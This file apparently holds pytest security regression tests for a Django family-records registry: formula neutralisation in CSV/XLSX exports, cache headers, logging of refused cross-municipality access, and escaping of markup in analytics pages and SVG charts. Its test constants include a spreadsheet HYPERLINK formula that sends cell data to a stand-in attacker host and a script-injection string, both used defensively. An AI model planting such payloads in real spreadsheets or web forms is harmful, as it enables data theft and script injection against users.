"""What an outside tester did on the lab, each now refused (issue 19): formulas in every
CSV/XLSX, malformed parameters, cached personal pages, untraced refused access, markup
through the analytics pages, their chart and the printable report."""

from __future__ import annotations

import csv
import datetime
import io
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from accounts.models import Role
from audit.models import Action, AuditEvent
from directory.models import Municipality
from regbank_app.spreadsheet import text_cell
from regbank_app.testing import factories
from registry.models import FamilyMember

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.invalid/?p="&B2,"open")'
MARKUP = '"><script>alert(1)</script>'
PERIOD = "date_from=2024-01-01&date_to=2024-12-31"


@pytest.fixture
def regional(client):
    officer = factories.user(Role.REGIONAL, None, username="reg1")
    client.force_login(officer)
    return officer


def _csv_cells(response) -> list[str]:
    body = response.getvalue() if not response.streaming else b"".join(response.streaming_content)
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
            for cell in row]  # fmt: skip


def _xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    return [c.value for c in cells]


# --- formula injection ---------------------------------------------------------------------
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_numbers_are_not(start):
    assert text_cell(f"{start}1+1") == f"'{start}1+1"
    assert text_cell("Иванов") == "Иванов" and text_cell(-5) == -5 and text_cell(None) is None


def test_a_login_name_reaches_the_audit_exports_as_text(client):
    client.post("/accounts/login/", {"username": FORMULA, "password": "x"})  # no login needed
    client.force_login(factories.user(Role.REGIONAL, None))
    assert f"'{FORMULA}" in _csv_cells(client.get("/audit/export/csv/"))
    assert f"'{FORMULA}" in _xlsx_cells(client.get("/audit/export/xlsx/"))


def test_a_family_member_name_reaches_the_object_column_as_text(client):
    officer = factories.user(Role.MUNICIPAL, "MO-1", can_manage_users=True)
    client.force_login(officer)
    family = factories.family("MO-1")
    data = {"relation": "father", "last_name": "=1+2", "first_name": "@SUM(A1)"}
    assert client.post(f"/families/{family.pk}/members/new/", data).status_code == 302
    member = FamilyMember.objects.get()
    cells = _csv_cells(client.get("/audit/export/csv/?action=create"))
    assert f"'{member}" in cells and str(member) not in cells
    assert f"'{member}" in _xlsx_cells(client.get("/audit/export/xlsx/?action=create"))


def _activity(mo_name=None, agency_name=None, last_name=None):
    """An МО, its КДН and one of its users, named as given, with events in 2024."""
    mo = factories.mo("MO-1")
    if mo_name:
        Municipality.objects.filter(pk=mo.pk).update(name=mo_name)
    agency = factories.agency("MO-1", "kdn")
    if agency_name:
        type(agency).objects.filter(pk=agency.pk).update(name=agency_name, short_name=agency_name)
    user = factories.user(Role.MUNICIPAL, "MO-1", username="kdn1", last_name=last_name or "Ф")
    when = datetime.datetime(2024, 5, 14, 11, 0, tzinfo=ZoneInfo("Europe/Moscow"))
    for action in (Action.CREATE, Action.VIEW, Action.UPDATE):
        AuditEvent.objects.create(
            site="regional", action=action, user=user, username=user.username,
            user_name=user.full_name, mo_id=mo.pk, agency_id=agency.pk, agency_type="kdn",
            time=when,
        )  # fmt: skip


def test_analytics_exports_hold_names_as_text(client, regional):
    _activity(mo_name=FORMULA, last_name="-Минусов")
    for slug in ("yearly", "change", "entry-share", "entry-volume", "per-unit"):
        cells = _csv_cells(client.get(f"/analytics/{slug}/export.csv?{PERIOD}"))
        assert f"'{FORMULA}" in cells and FORMULA not in cells, slug
        assert f"'{FORMULA}" in _xlsx_cells(client.get(f"/analytics/{slug}/export.xlsx?{PERIOD}"))


# --- malformed parameters --------------------------------------------------------------------
@pytest.mark.parametrize(
    ("url", "status", "words"),
    [
        ("/minors/new/?family=abc", 404, "Страница не найдена"),
        ("/plans/new/?family=abc", 404, "Страница не найдена"),
        ("/plans/new/?minor=abc", 404, "Страница не найдена"),
        ("/audit/?page=99999999999999999999", 404, "Страница не найдена"),
        ("/analytics/yearly/?date_from=9999-01-01&date_to=9999-12-31", 400, "Дата — с"),
    ],
)
def test_malformed_parameters_get_a_russian_answer_not_a_500(client, url, status, words):
    role = Role.REGIONAL if url.startswith(("/audit", "/analytics")) else Role.MUNICIPAL
    client.force_login(factories.user(role, None if role == Role.REGIONAL else "MO-1"))
    response = client.get(url)
    assert response.status_code == status, url
    assert words in response.content.decode()


# --- caching -----------------------------------------------------------------------------------
def test_pages_and_exports_with_personal_data_are_never_stored(client, regional):
    family = factories.family("MO-1")
    _activity()
    for url in (
        f"/families/{family.pk}/",
        "/families/",
        "/audit/export/csv/",
        "/audit/export/xlsx/",
        f"/analytics/yearly/export.csv?{PERIOD}",
        f"/analytics/users/?mo_code=MO-1&{PERIOD}",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url


# --- refused access ------------------------------------------------------------------------------
def test_reaching_another_mos_record_is_a_security_event(client):
    intruder = factories.user(Role.MUNICIPAL, "MO-1")
    client.force_login(intruder)
    family = factories.family("MO-2", family_name="Чужие")
    for url in (f"/families/{family.pk}/", f"/families/{family.pk}/edit/"):
        assert client.get(url).status_code == 404
    events = AuditEvent.objects.filter(action=Action.ACCESS_DENIED)
    assert events.count() == 2
    event = events.first()
    assert event.user_id == intruder.pk and event.mo.code == "MO-1"
    assert event.object_id == family.pk and event.object_mo.code == "MO-2"
    assert "Чужие" not in event.object_repr  # the name refused is not shown to the intruder
    assert event.details["path"] in (f"/families/{family.pk}/", f"/families/{family.pk}/edit/")
    # a missing record is no event, and the MO-2 officer sees the attempt in the log
    client.get("/families/00000000-0000-0000-0000-000000000000/")
    assert AuditEvent.objects.filter(action=Action.ACCESS_DENIED).count() == 2
    client.force_login(factories.user(Role.MUNICIPAL, "MO-2"))
    assert "Отказ в доступе к записи" in client.get("/audit/?action=access_denied").content.decode()


# --- markup through the analytics -------------------------------------------------------------
def test_markup_in_names_stays_text_in_analytics_pages_chart_and_report(client, regional):
    _activity(mo_name=MARKUP + " МО", agency_name=MARKUP + " КДН", last_name=MARKUP)
    urls = [f"/analytics/{slug}/?{PERIOD}" for slug in
            ("yearly", "change", "entry-share", "entry-volume", "per-unit")]  # fmt: skip
    urls += [f"/analytics/users/?mo_code=MO-1&{PERIOD}", f"/analytics/report/?{PERIOD}"]
    urls += [f"/analytics/yearly/report/?{PERIOD}", f"/analytics/?{PERIOD}"]
    escaped = 0
    for url in urls:
        html = client.get(url).content.decode()
        assert "<script" not in html, url
        escaped += "&lt;script&gt;" in html
    assert escaped >= len(urls) - 1  # the names reached the pages (the index lists none)
    for slug in ("yearly", "change", "entry-share", "entry-volume", "per-unit"):
        svg = client.get(f"/analytics/{slug}/chart.svg?{PERIOD}").content.decode()
        assert "<script" not in svg, slug
        ElementTree.fromstring(svg)  # noqa: S314 - our own chart; well-formed = all escaped
